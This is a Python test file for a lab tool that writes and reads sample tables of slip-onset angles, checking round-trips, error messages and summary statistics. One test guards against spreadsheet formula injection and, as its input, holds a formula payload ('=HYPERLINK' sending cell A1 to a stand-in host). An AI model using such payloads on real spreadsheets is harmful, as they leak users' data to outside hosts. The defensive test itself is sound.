"""Sample tables come back as they were written, and bad ones are named."""

from __future__ import annotations

import csv
import math
from dataclasses import fields
from pathlib import Path
from typing import Any, get_type_hints

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shared.errors import UserError
from shared.messages import Floats, Sample, Strings
from station.recording.summary import by_direction
from station.recording.tables import read_samples, write_samples
from tests.unit.recording import session

_VALUES: dict[Any, st.SearchStrategy[Any]] = {
    int: st.integers(min_value=-(2**62), max_value=2**62),
    float: st.floats(allow_nan=False),
    bool: st.booleans(),
    # Characters that a file cannot hold (lone surrogates) or that separate flags are not generated.
    str: st.text(st.characters(codec="utf-8", exclude_characters="|")),
    Floats: st.lists(st.floats(allow_nan=False), max_size=9).map(tuple),
    Strings: st.lists(st.text(st.characters(codec="utf-8", exclude_characters="|"), min_size=1)).map(tuple),
}
_HINTS = get_type_hints(Sample)
SAMPLES = st.builds(Sample, **{spec.name: _VALUES[_HINTS[spec.name]] for spec in fields(Sample)})


@pytest.mark.parametrize("ending", ["csv", "parquet"])
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(samples=st.lists(SAMPLES, max_size=4).map(tuple))
def test_what_is_written_is_read_back(samples: tuple[Sample, ...], ending: str, tmp_path: Path) -> None:
    path = tmp_path / f"samples.{ending}"
    write_samples(samples, path)
    assert read_samples(path) == samples


def test_no_name_of_a_recording_is_a_formula_in_its_table(tmp_path: Path) -> None:
    """A spreadsheet ran the name of an object that somebody else had given it."""
    made = Sample(onset_angle_rad=-0.5, object='=HYPERLINK("http://x/?"&A1)', plate="@SUM(1+1)*cmd", flags=("+1", "-x"))
    path = tmp_path / "samples.csv"
    write_samples([made], path)
    (row,) = csv.DictReader(path.read_text(encoding="utf-8").splitlines())
    assert not [cell for cell in row.values() if cell[:1] in tuple("=+@")]
    assert row["onset_angle_rad"] == "-0.5"
    assert read_samples(path) == (made,)


def test_a_recording_is_a_table_too(tmp_path: Path) -> None:
    path = session.record(tmp_path / "a.mcap")
    samples = read_samples(path)
    for name in ("a.csv", "a.parquet"):
        write_samples(samples, tmp_path / name)
        assert read_samples(tmp_path / name) == samples
    header = (tmp_path / "a.csv").read_text().splitlines()[0].split(",")
    assert header[:8] == ["run", "start_ns", "slip_ns", "detect_ns", *(f"euler_rad_{axis}" for axis in range(3)),
                          "reference_corners_px_0"]  # fmt: skip


def test_a_table_of_another_rig_keeps_what_it_has(tmp_path: Path) -> None:
    path = tmp_path / "theirs.csv"
    path.write_text("onset_angle_rad,plate,operator\n0.35,steel,Kim\n0.36,,Lee\n")
    assert read_samples(path) == (Sample(onset_angle_rad=0.35, plate="steel"), Sample(onset_angle_rad=0.36))


@pytest.mark.parametrize(
    ("name", "text", "words"),
    [
        ("a.csv", "angle,plate\n1,2\n", "column 'onset_angle_rad'"),
        ("a.csv", "onset_angle_rad,run\n0.3,three\n", r"row 1: expected a whole number for 'run', got 'three'"),
        ("a.csv", "onset_angle_rad,censored\n0.3,perhaps\n", "expected true or false for 'censored'"),
        ("a.csv", "onset_angle_rad,euler_rad_0\n0.3,x\n", "expected a number for 'euler_rad_0'"),
        ("a.csv", "", "but the file is empty"),
        ("a.parquet", "no parquet", "is not one"),
        ("a.xlsx", "", r"\.csv, \.parquet or \.mcap"),
    ],
)
def test_bad_tables_are_named(name: str, text: str, words: str, tmp_path: Path) -> None:
    (tmp_path / name).write_text(text)
    with pytest.raises(UserError, match=words):
        read_samples(tmp_path / name)


def test_a_missing_table_and_a_wrong_ending_are_named(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="cannot be read"):
        read_samples(tmp_path / "none.csv")
    with pytest.raises(UserError, match="to end in"):
        write_samples((), tmp_path / "a.txt")


def test_directions_count_what_the_mean_leaves_out() -> None:
    samples = [
        Sample(direction=0, onset_angle_rad=0.30),
        Sample(direction=0, onset_angle_rad=0.34),
        Sample(direction=0, onset_angle_rad=0.90, censored=True),
        Sample(direction=0, onset_angle_rad=0.01, flags=("jump",)),
        Sample(direction=2, onset_angle_rad=0.5, censored=True, flags=("no slip",)),
    ]
    first, second = by_direction(samples)
    assert (first.kept, first.censored, first.flagged) == (2, 1, 1)
    assert first.mean_rad == pytest.approx(0.32)
    assert first.sd_rad == pytest.approx(0.02 * math.sqrt(2))
    assert (second.direction, second.kept, second.censored, second.flagged) == (2, 0, 1, 0)
    assert math.isnan(second.mean_rad)


@pytest.mark.parametrize("angle", ["inf", "-Infinity", "9" * 400])
def test_an_infinite_angle_has_no_mean(angle: str, tmp_path: Path) -> None:
    """A number of 400 digits is infinite, too; its spread ended `station samples` in a traceback."""
    path = tmp_path / "samples.csv"
    path.write_text(f"run,onset_angle_rad\n1,0.3\n2,{angle}\n", encoding="utf-8")
    (one,) = by_direction(read_samples(path))
    assert one.kept == 2
    assert math.isnan(one.mean_rad)
    assert math.isnan(one.sd_rad)
